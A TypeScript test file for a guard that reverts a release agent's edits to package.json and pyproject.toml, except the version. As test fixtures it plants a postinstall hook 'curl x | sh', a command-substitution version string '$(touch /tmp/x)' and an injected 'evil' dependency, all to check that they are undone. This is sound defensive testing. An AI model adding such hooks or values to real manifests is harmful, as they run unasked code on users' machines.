import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { keepVersionChangesOnly, VERSIONED_MANIFESTS, type ManifestTexts } from '../../src/core/ship/releaseManifest';

/** The manifests as they are (the engine takes them from the commit before the agent; these tests need no repository). */
function readManifestsFrom(root: string): ManifestTexts {
  return new Map(VERSIONED_MANIFESTS.map((rel) => [rel, fs.existsSync(path.join(root, rel)) ? fs.readFileSync(path.join(root, rel), 'utf8') : undefined]));
}

describe("the shipping agent's manifest changes: the version only", () => {
  let root: string;
  const write = (rel: string, text: string) => fs.writeFileSync(path.join(root, rel), text);
  const read = (rel: string) => fs.readFileSync(path.join(root, rel), 'utf8');
  beforeEach(() => (root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'bp-release-manifest-')))));
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  const PKG = '{\n    "name": "app",\n    "version": "1.4.2",\n    "scripts": { "test": "node --test" },\n    "dependencies": { "a": "^1.0.0" }\n}\n';

  it('keeps a package.json whose version alone changed, as the agent wrote it', () => {
    write('package.json', PKG);
    const before = readManifestsFrom(root);
    const bumped = PKG.replace('1.4.2', '1.5.0');
    write('package.json', bumped);
    assert.deepEqual(keepVersionChangesOnly(root, before), []);
    assert.equal(read('package.json'), bumped);
  });

  it('undoes an install script and a dependency added beside the bump, keeping the bump and the layout', () => {
    write('package.json', PKG);
    const before = readManifestsFrom(root);
    write('package.json', JSON.stringify({ name: 'app', version: '1.5.0', scripts: { test: 'node --test', postinstall: 'curl x | sh' }, dependencies: { a: '^1.0.0', b: '^2.0.0' } }, null, 2) + '\n');
    const undone = keepVersionChangesOnly(root, before);
    assert.equal(undone.length, 1);
    assert.match(undone[0]!, /package\.json: the shipping agent changed more than the version; the rest was undone \(its version change kept\)/);
    assert.equal(read('package.json'), PKG.replace('1.4.2', '1.5.0'));
  });

  it('undoes a version that is not one, a manifest cut in half, and a manifest the agent created', () => {
    write('package.json', PKG);
    let before = readManifestsFrom(root);
    write('package.json', PKG.replace('"1.4.2"', '"$(touch /tmp/x)"'));
    assert.equal(keepVersionChangesOnly(root, before).length, 1);
    assert.equal(read('package.json'), PKG);
    write('package.json', PKG.slice(0, 30));
    assert.equal(keepVersionChangesOnly(root, before).length, 1);
    assert.equal(read('package.json'), PKG);
    before = readManifestsFrom(root);
    write('pyproject.toml', '[project]\nname = "x"\nversion = "0.1.0"\n');
    assert.match(keepVersionChangesOnly(root, before).join('\n'), /pyproject\.toml did not exist; .* removed/);
    assert.ok(!fs.existsSync(path.join(root, 'pyproject.toml')));
  });

  it("pyproject.toml: the project's version line may change; a dependency line or a later version line may not", () => {
    const TOML = '[project]\nname = "app"\nversion = "0.3.0"  # released\ndependencies = ["requests>=2"]\n\n[tool.x.dep]\nversion = "1.0"\n';
    write('pyproject.toml', TOML);
    const before = readManifestsFrom(root);
    write('pyproject.toml', TOML.replace('0.3.0', '0.4.0'));
    assert.deepEqual(keepVersionChangesOnly(root, before), []);
    write('pyproject.toml', TOML.replace('0.3.0', '0.4.0').replace('requests>=2', 'requests>=2", "evil').replace('version = "1.0"', 'version = "9.9"'));
    assert.equal(keepVersionChangesOnly(root, before).length, 1);
    assert.equal(read('pyproject.toml'), TOML.replace('0.3.0', '0.4.0'));
    // A dynamic version: the only version line is a dependency's, and it is not the agent's to change.
    const DYNAMIC = '[project]\nname = "app"\ndynamic = ["version"]\n\n[tool.poetry.dependencies.foo]\nversion = "^1.0"\n';
    write('pyproject.toml', DYNAMIC);
    const dynamicBefore = readManifestsFrom(root);
    write('pyproject.toml', DYNAMIC.replace('^1.0', '^9.0'));
    assert.equal(keepVersionChangesOnly(root, dynamicBefore).length, 1);
    assert.equal(read('pyproject.toml'), DYNAMIC);
  });
});
